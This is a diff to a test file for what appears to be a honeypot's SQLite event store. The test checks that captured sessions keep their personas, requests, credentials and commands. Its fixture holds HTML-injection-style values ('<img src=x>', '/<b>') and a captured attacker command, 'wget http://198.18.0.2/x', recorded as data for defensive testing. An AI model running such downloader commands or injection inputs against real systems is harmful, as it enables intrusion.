@@ -136,6 +136,11 @@ describe('SQLite store: events in, queries out', () => {
     bus.emit(
       session(T0 + 2000, '1.1.1.1', 80, ['GET / HTTP/1.1\r\n'], {
         geo: { cc: 'AU', asn: 13335, org: 'Cloudflare, Inc.' },
+        persona: 'http',
+        sent: [{ index: 0, timestamp: new Date(T0).toISOString(), data: b64('HTTP/1.1 200 OK\r\n') }],
+        http: [{ method: 'GET', path: '/<b>', user_agent: 'x' }],
+        credentials: [{ username: 'root', password: '<img src=x>' }],
+        commands: ['wget http://198.18.0.2/x'],
       }),
     );
     bus.emit(
@@ -337,6 +342,19 @@ describe('SQLite store: events in, queries out', () => {
     });
     const udp = (await store.query.sessions({ limit: 1, offset: 0, proto: 'udp' })).rows[0]!;
     assert.equal(udp.payload, '');
+    assert.equal(udp.persona, undefined);
+    const http = (await store.query.sessions({ limit: 1, offset: 0, src: '1.1.1.1' })).rows[0]!;
+    const { persona, sent, http: reqs, credentials, commands } = (await store.query.session(http.id))!;
+    assert.deepEqual(
+      { persona, sent, reqs, credentials, commands },
+      {
+        persona: 'http',
+        sent: b64('HTTP/1.1 200 OK\r\n'),
+        reqs: [{ method: 'GET', path: '/<b>', user_agent: 'x' }],
+        credentials: [{ username: 'root', password: '<img src=x>' }],
+        commands: ['wget http://198.18.0.2/x'],
+      },
+    );
     assert.equal(await store.query.session(999_999), undefined);
   });
 
